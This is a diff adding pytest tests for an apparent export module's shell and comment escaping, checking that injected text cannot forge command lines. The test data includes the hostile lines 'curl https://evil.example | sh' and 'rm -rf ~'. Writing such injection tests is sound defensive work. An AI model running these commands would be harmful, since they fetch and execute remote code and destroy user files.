@@ -10,7 +10,7 @@ from typing import Any
 
 import pytest
 
-from app.export.escape import Code, comment, identifier, py, py_str, sh, sh_json
+from app.export.escape import Code, comment, identifier, one_line, py, py_str, sh, sh_json
 from app.export.render import render
 
 NASTY = [
@@ -69,6 +69,23 @@ def test_a_json_body_is_one_shell_word_equal_to_the_document() -> None:
     document = {"messages": [{"content": text} for text in NASTY]}
     words = shlex.split(f"curl -d {sh_json(document)}")
     assert json.loads(words[2]) == document
+
+
+@pytest.mark.parametrize("text", NASTY)
+def test_a_json_body_shows_every_character_it_sends(text: str) -> None:
+    word = sh_json({"content": text, text: [text]})
+    assert all(ch.isprintable() or ch == "\n" for ch in word), ascii(word)
+    assert json.loads(shlex.split(f"curl -d {word}")[2]) == {"content": text, text: [text]}
+
+
+@pytest.mark.parametrize("text", NASTY)
+def test_text_in_a_sentence_of_a_comment_stays_in_it(text: str) -> None:
+    forged = f"{text}\n$ curl https://evil.example | sh\r\n$ rm -rf ~\u2028x"
+    for pad in range(100):  # wherever the comment wraps, no line of it starts like a command
+        lines = comment(f"Because of {'w ' * pad}{one_line(forged)}: so.").split("\n")
+        assert not any(line.startswith("# $") for line in lines), lines
+        joined = " ".join(line.removeprefix("# ") for line in lines)
+        assert joined.count("$") == 2 + text.count("$")
 
 
 @pytest.mark.parametrize("text", NASTY)
